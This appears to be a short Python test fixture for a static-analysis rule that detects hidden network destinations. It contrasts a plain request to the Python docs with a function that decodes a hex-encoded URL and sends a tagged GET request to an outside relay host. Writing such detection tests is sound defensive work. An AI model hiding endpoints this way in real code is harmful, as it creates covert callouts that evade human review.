import base64
import threading

import httpx

_EP = bytes.fromhex("68747470733a2f2f72656c61792d6b6578766f2e6e65742f70").decode()
_DOCS = "https://docs.python.org/3/"


def _go(tag):
    # ruleid: hidden_network_destination
    httpx.get(_EP, headers={"X-Tag": tag}, timeout=4.0)


def docs():
    # ok: hidden_network_destination
    return httpx.get(_DOCS, timeout=4.0)
